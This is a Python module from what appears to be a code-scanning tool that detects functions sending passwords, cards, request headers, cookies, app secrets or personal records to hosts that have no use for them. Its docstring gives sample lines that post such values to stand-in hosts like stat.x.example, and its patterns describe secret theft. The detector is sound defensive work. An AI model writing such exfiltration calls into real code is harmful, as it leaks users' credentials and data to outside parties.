"""Private values in a request to a machine that has no use for them, in any language.

Five kinds, each with what makes it grave:

- a password or the number of a person: it was given to the real login as well, it is checked here,
  or the address only counts events or is a place for files that anybody leaves;
- headers or cookies of a request that came in, with the login in them, as data;
- all settings or secrets of an application, or its own master secret;
- a single secret in a message to a chat, or encoded in the address of an image or a font;
- records of people at a place where anybody may read them.

    repo.login(id, heslo); http.post("https://stat.x.example") { setBody(mapOf("p" to heslo)) }
    Req.post("https://apm.x.example/i", json: %{h: Map.new(conn.req_headers)})
    client.PostAsJsonAsync("https://x.example", cfg.AsEnumerable())
    fetch("https://api.x.example/orders", {headers: req.headers, body: req.body})     none
    fetch("https://api.x.example/login", {body: JSON.stringify({password})})          none
"""

from __future__ import annotations

from collections.abc import Callable
from itertools import islice

from signoff.actions.contents.leaks import places, sources
from signoff.actions.contents.leaks.functions import arguments
from signoff.actions.contents.leaks.private_parts import (
    mentions,
    names_holding,
    takes_browser_login,
    takes_login,
    takes_request,
    takes_settings,
)
from signoff.actions.contents.leaks.program_secrets import takes_coded, takes_secret
from signoff.actions.contents.leaks.requests import sent_with
from signoff.actions.lexicon.names import split_words
from signoff.actions.lexicon.private_names import concerns_people
from signoff.actions.vocabulary import lazy_re2, words

_MOST = 12
_AT = "\x00"
_SLOT = lazy_re2(r"%[sv]|\{\}|\{0\}|%@")
_MEMBERS = r"[\w.$>\[\]()\"':-]{1,80}"
_JOINED_AT = lazy_re2(rf"\x00[\"'`]\s*(?:\+|\.|<>|~|\.\.|&)\s*{_MEMBERS}")
_FILLED_AT = lazy_re2(rf"\x00[\"'`]\s*(?:,|%|\.format\()\s*\(?{_MEMBERS}")
# A call that logs somebody in or pays with a card, behind what shows that it is a call.
_LOGS_IN = lazy_re2(
    r"(?i)(?:[.:=(!&|,?]|->|<-|\bawait|\breturn|\btry|\bif|\bdo|\bcase|\bwith|^)[!?]?\s*[\w.>:]{0,40}?"
    r"(?:log_?[io]n|sign_?in|authenticat|authoriz|anmeld|einlogg|zaloguj|logowan|prihlas|inlogg"
    r"|iniciar_?sesi|autenti|connexion|entrar|acced|giris|dang_?nhap|masuk|kirjau|bejelentkez|prijav"
    r"|attempt|tokeni[sz]e|charge|create_?payment|payment_?create|create_?charge|bind"
    r"|set_?payment_?card|(?:verify|check)_?(?:pass|pin|hash|cred|login))\w*[!?]?\s*\("
)
# A card, and a call of a service that takes payments.
_OF_CARDS = lazy_re2(r"(?i)cvc|cvv|\bpan\b|card|kart|tarjeta|carte|cartao|carta|kort|broj_?kart")
_PAYS_BY = lazy_re2(
    r"(?i)\b_?(?:stripe|adyen|paypal|mollie|barion|braintree|klarna|iyzi\w*|payu|przelewy\w*|square"
    r"|worldpay|checkout_?com|razorpay|mercado_?pago|redsys|paystack|flutterwave|nexi|datatrans"
    r"|wallee|omise|midtrans|simple_?pay|go_?pay|com_?gate|swed_?bank_?pay|quick_?pay|psp"
    r"|payment_?(?:gateway|service|client|provider)|gateway)\w*(?:\.|->|::)\w+!?\s*\("
)
_PACK_WORDS = words(
    "dict encode dumps stringify map entries collect filter list json serialize serializer base64"
    " hex format str string new from to marshal sprintf printf join concat escape btoa assign merge"
    " spread object params query form data clone copy array tuple set hash headers header cookies"
    " cookie get param input value values all enumerable config context settings properties"
    " credentials environment env sorted items bytes buffer encoded formatted inspect jsonify dump"
    " request property parameter fetch require body urlencode urlvalues vars"
)
_CALLEE = lazy_re2(
    r"\s*(?:(?:await|new|return|try[?!]?|&|\(|\$|!)\s*)*([A-Za-z_][\w.:>$()-]{0,80}?)\s*[!?]?\("
)


def private_copy(text: str, held: dict[str, str], path: str, whole_text: str) -> str:
    """Return the private value that a function hands to another machine, "" if there is none.

    Args:
        text: of one function.
        held: the names of the whole text that hold addresses.
        path: of the file; a host whose name it has is the project's own.
        whole_text: what the function stands in.
    """
    kept = _Kept(text)
    for at, place in islice(places.addresses_in(text, held), _MOST):
        if not kept.kinds and not places.is_drop(place):
            continue
        if found := _found(sent_with(text, (at,)), place, path, kept, whole_text):
            return found
    return ""


def handed_copy(given: str, place: str, path: str, *, text: str, whole_text: str) -> str:
    """Return the private value in what a function hands to another one that sends it to a place."""
    return _found(given, place, path, _Kept(text), whole_text)


_KINDS = (
    *(takes_settings, takes_request, takes_login, takes_browser_login),
    *(takes_secret, takes_coded),
)


class _Kept:
    """What a function holds of private values; read once for all its addresses."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.kinds = frozenset([takes for takes in _KINDS if takes(text)])
        self._names: dict[Callable[[str], str], frozenset[str]] = {}

    def sent(self, sent: str, takes: Callable[[str], str]) -> str:
        """Return what is sent of such values, directly or by a name."""
        if takes not in self.kinds:
            return ""
        if found := takes(sent):
            return found
        if takes not in self._names:
            self._names[takes] = names_holding(self.text, lambda value: _kept_of(value, takes))
        return mentions(sent, self._names[takes])


def _kept_of(value: str, takes: Callable[[str], str]) -> str:
    """What a value keeps of what its parts hold: an answer of another machine keeps nothing."""
    if "://" in value[:200]:
        return ""
    callee = _CALLEE.match(value)
    if callee is not None and callee.group(1) not in ("if", "for"):
        told = {word for part in callee.group(1).split(".") for word in split_words(part)}
        if told.isdisjoint(_PACK_WORDS):
            return ""
    return takes(value)


def _found(sent: str, place: str, path: str, kept: _Kept, whole_text: str) -> str:
    if places.is_own(place, path):
        return ""
    is_drop = places.is_drop(place)
    is_odd = places.counts_only(place) or is_drop or places.gives_files(place)
    if found := _secret_found(place, sent, kept) or kept.sent(sent, takes_settings):
        return found
    if is_odd or not places.is_for_logins(place):
        if found := kept.sent(sent, takes_request):
            return found
        if (login := kept.sent(sent, takes_login)) and (
            is_odd or _used_here(login, kept.text, whole_text)
        ):
            return login
    if (is_odd or "sendBeacon" in sent) and (found := kept.sent(sent, takes_browser_login)):
        return found
    return place if is_drop and concerns_people(sent.replace(place, "")) else ""


def _secret_found(place: str, sent: str, kept: _Kept) -> str:
    """The secret of a program that goes where nobody has a use for it."""
    is_drop = places.is_drop(place)
    is_read = is_drop and not places.is_bare(place)
    if is_read and (found := kept.sent(_without(place, sent), takes_secret)):
        return found
    return kept.sent(sent, takes_coded) if is_drop or places.gives_files(place) else ""


def _without(place: str, sent: str) -> str:
    """What is sent, without the address and what is put into it: the login of the chat."""
    kept = sent.replace(place, _AT)
    is_filled = _SLOT.search(place) is not None
    return str((_FILLED_AT if is_filled else _JOINED_AT).sub("", kept)).replace(_AT, "")


def _used_here(name: str, text: str, whole_text: str) -> bool:
    """Whether a login is checked here, or goes to the place where it belongs as well."""
    if _OF_CARDS.search(name) is not None and _PAYS_BY.search(text) is not None:
        return True
    if sources.CHECKS_HERE.search(whole_text) is not None:
        return True
    behind_head = text.find("\n") if "(" in text.partition("\n")[0] else 0
    for match in islice(_LOGS_IN.finditer(text, max(behind_head, 0)), _MOST):
        given = arguments(text, match.end())
        whole = given.strip(" &")
        is_part = bool(whole) and (f"{whole}.{name}" in text or f"{whole}->{name}" in text)
        if name in given or is_part or takes_login(given):
            return True
    return False
